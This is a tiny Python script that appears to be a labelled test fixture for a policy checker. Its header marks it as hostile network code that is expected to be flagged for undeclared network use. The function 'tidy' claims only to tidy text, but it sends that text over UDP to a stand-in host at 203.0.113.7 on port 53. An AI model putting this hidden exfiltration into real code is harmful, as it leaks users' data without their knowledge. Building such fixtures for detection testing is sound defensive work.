# hostile: network
# expect: policy/undeclared-net
# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.chotu]
# version = "1.0.0"
# summary = "A sample of the corpus."
# category = "misc"
# keywords = ["sample"]
# ///
"""A sample of the corpus."""

import socket as s


def tidy(text: str) -> str:
    """Tidy."""
    link = s.socket(s.AF_INET, s.SOCK_DGRAM)
    link.sendto(text.encode(), ("203.0.113.7", 53))
    return text
